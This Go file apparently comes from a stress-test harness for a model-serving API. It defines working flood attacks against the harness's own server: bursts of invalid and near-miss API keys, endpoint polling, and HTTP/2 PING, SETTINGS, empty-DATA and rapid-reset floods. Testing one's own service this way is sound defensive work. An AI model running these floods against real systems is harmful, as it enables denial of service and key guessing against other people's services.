//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

var floods = []attack{
	{
		name: "bad-keys", what: "some thousand invalid keys a second", heavy: true, lasts: 5 * time.Second,
		run: func(ctx context.Context, a *attacker) {
			a.loops(ctx, 8, 4*time.Millisecond, func(i int) {
				secret := fmt.Sprintf("oas_%010d_%038d", rand.IntN(1<<30), rand.Int64())
				if i%2 == 0 { // its own key, with another ending
					secret = a.key[:len(a.key)-8] + fmt.Sprintf("%08d", rand.IntN(1e8))
				}
				a.sent.Add(1)
				if status, _, err := a.post(ctx, a.client, generate, secret, strings.NewReader("{}"), nil); err == nil && status == http.StatusOK {
					a.answered.Add(1)
				}
			})
		},
	},
	{
		name: "polls", what: "lists, the queue and statistics, asked again and again", heavy: true, lasts: 5 * time.Second,
		run: func(ctx context.Context, a *attacker) {
			paths := []string{"/api/queue", "/api/stats", "/v1/models", "/api/ps", "/api/tags"}
			a.loops(ctx, 8, 4*time.Millisecond, func(i int) {
				r, err := http.NewRequestWithContext(ctx, "GET", a.url+paths[i%len(paths)], nil)
				if err != nil {
					return
				}
				r.Header.Set("Authorization", "Bearer "+a.key)
				a.sent.Add(1)
				if resp, err := a.client.Do(r); err == nil {
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					a.answered.Add(1)
				}
			})
		},
	},
	{
		name: "h2-pings", what: "a flood of HTTP/2 PING frames", tls: true, heavy: true, lasts: 5 * time.Second,
		run: frames(func(f *http2.Framer, _ uint32, _ []byte) error { return f.WritePing(false, [8]byte{1}) }),
	},
	{
		name: "h2-settings", what: "a flood of HTTP/2 SETTINGS frames", tls: true, heavy: true, lasts: 5 * time.Second,
		run: frames(func(f *http2.Framer, _ uint32, _ []byte) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
		}),
	},
	{
		name: "h2-resets", what: "requests by HTTP/2 that are reset at once (rapid reset)", tls: true, heavy: true, lasts: 5 * time.Second,
		run: frames(func(f *http2.Framer, stream uint32, head []byte) error {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true}); err != nil {
				return err
			}
			return f.WriteRSTStream(stream, http2.ErrCodeCancel)
		}),
	},
	{
		name: "h2-empty", what: "a flood of empty HTTP/2 DATA frames", tls: true, heavy: true, lasts: 5 * time.Second,
		run: frames(func(f *http2.Framer, stream uint32, head []byte) error {
			if stream == 1 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
			}
			return f.WriteData(1, false, nil)
		}),
	},
}

// frames floods HTTP/2 connections with the frames that write writes, at most twenty thousand a second. It connects again if a
// connection is closed.
func frames(write func(f *http2.Framer, stream uint32, head []byte) error) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		a.loops(ctx, 2, 100*time.Millisecond, func(int) { a.flood(ctx, write) })
	}
}

func (a *attacker) flood(ctx context.Context, write func(f *http2.Framer, stream uint32, head []byte) error) {
	config := a.trust.Clone()
	config.NextProtos = []string{"h2"}
	dialer := tls.Dialer{NetDialer: &a.dialer, Config: config}
	conn, err := dialer.DialContext(ctx, "tcp", a.addr)
	if err != nil {
		return
	}
	defer conn.Close()
	go io.Copy(io.Discard, conn)
	out := bufio.NewWriter(conn)
	out.WriteString(http2.ClientPreface)
	f := http2.NewFramer(out, nil)
	if f.WriteSettings() != nil {
		return
	}
	var head bytes.Buffer
	for stream := uint32(1); stream < 1<<30; stream += 2 {
		head.Reset()
		e := hpack.NewEncoder(&head)
		e.SetMaxDynamicTableSize(0)
		for _, x := range [][2]string{
			{":method", "POST"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", generate}, {"authorization", "Bearer " + a.key},
		} {
			e.WriteField(hpack.HeaderField{Name: x[0], Value: x[1]})
		}
		if write(f, stream, head.Bytes()) != nil {
			return
		}
		a.sent.Add(1)
		if stream%200 == 1 {
			conn.SetWriteDeadline(time.Now().Add(time.Second))
			if out.Flush() != nil || !pause(ctx, 10*time.Millisecond) {
				return
			}
		}
	}
}
